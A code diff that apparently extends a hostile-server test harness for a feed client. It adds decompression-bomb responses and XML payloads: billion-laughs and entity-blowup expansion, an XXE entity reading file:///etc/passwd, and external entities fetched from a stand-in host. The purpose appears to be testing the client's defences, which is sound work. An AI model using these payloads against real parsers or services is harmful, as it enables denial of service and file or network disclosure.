@@ -137,6 +137,47 @@ def zipped_zeros() -> bytes:
     return b"".join(pack.compress(bytes(1 << 20)) for _ in range(200)) + pack.flush()
 
 
+BOMB = 600 * 1024 * 1024
+
+
+def packed_bomb(coding: str) -> Answer:
+    """600 MB of nothing in some hundred bytes of Brotli, Zstandard or deflate."""
+    return lambda handler, _: handler.send(_packed_zeros(coding), Content_Encoding=coding)
+
+
+@cache
+def _packed_zeros(coding: str) -> bytes:
+    block, times = bytes(8 << 20), BOMB >> 23
+    if coding == "br":
+        import brotli
+
+        brotly = brotli.Compressor(quality=1)
+        return b"".join(brotly.process(block) for _ in range(times)) + brotly.finish()
+    if coding == "zstd":
+        from backports import zstd
+
+        pack = zstd.ZstdCompressor(level=1)
+        return b"".join(pack.compress(block) for _ in range(times)) + pack.flush()
+    raw = zlib.compressobj(1, wbits=-15)  # the form without a head
+    return b"".join(raw.compress(block) for _ in range(times // 3)) + raw.flush()
+
+
+def xml_attack(host: str, kind: str) -> bytes:
+    """A feed of one good item whose title is an entity that grows, or that asks for a file or a server."""
+    grows = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10))
+    declared = {
+        "laughs": b'<!ENTITY e0 "ha">' + grows,
+        "blowup": b'<!ENTITY e9 "' + b"a" * 100_000 + b'">',
+        "file": b'<!ENTITY e9 SYSTEM "file:///etc/passwd">',
+        "server": b'<!ENTITY % x SYSTEM "https://lanh.example/tin-x.dtd"> %x; '
+        b'<!ENTITY e9 SYSTEM "https://lanh.example/tin-e.xml">',
+    }[kind]
+    page = feed(host, "/tin-1001.html").partition(b"?>")[2]
+    title = b"&e9;" * (3_000 if kind == "blowup" else 1)
+    page = page.replace(b"<title>B", b"<title>" + title + b"B", 1)
+    return b'<?xml version="1.0"?><!DOCTYPE rss [' + declared + b"]>" + page
+
+
 def slowloris(handler: Handler, _: str) -> None:
     """One byte now and then, for ever."""
     handler.send_response(200)
